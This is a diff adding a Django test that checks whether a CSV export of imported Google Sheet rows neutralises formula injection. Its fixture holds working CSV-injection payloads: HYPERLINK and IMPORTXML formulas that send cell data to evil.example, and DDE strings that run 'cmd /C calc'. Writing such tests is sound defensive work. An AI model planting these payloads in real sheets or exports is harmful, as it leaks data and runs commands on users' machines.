@@ -3,6 +3,9 @@ not found among Humans, the column mapping edited in a form."""
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from django.contrib.auth.models import User
 from django.test import Client
@@ -106,3 +109,29 @@ def test_the_runs_page_shows_what_was_asked_and_found(staff, loaded):
 
     assert loaded.spreadsheet_id in page
     assert "new (not among our people): 6" in page
+
+
+def test_the_export_neutralises_formulas_written_in_the_sheet(staff, google, import_list):
+    sheet = google.sheet(
+        [
+            ["ФИО", "Почта", "Телефон"],
+            ['=HYPERLINK("https://evil.example/?"&A1,"Открыть")', "", ""],
+            ["Анна", "=1+2@evil.example", "-2+3+cmd|' /C calc'!A0"],
+            ["@SUM(1+1)*cmd|' /C calc'!A0", "", "+7 900 000-00-05"],
+        ],
+        title='=IMPORTXML(CONCAT("https://evil.example/",A2),"//a")',
+    )
+    assert import_list(sheet.spreadsheet_id).code == 0
+    response = staff.post(
+        "/admin/lists/listentry/",
+        {
+            "action": "export_not_found",
+            "_selected_action": list(ListEntry.objects.values_list("pk", flat=True)),
+        },
+    )
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1:]
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "-", "@") or c.startswith("+cmd")]
+    assert "'=HYPERLINK(" in " ".join(cells)
+    assert "+79000000005" in cells  # a phone stays a phone
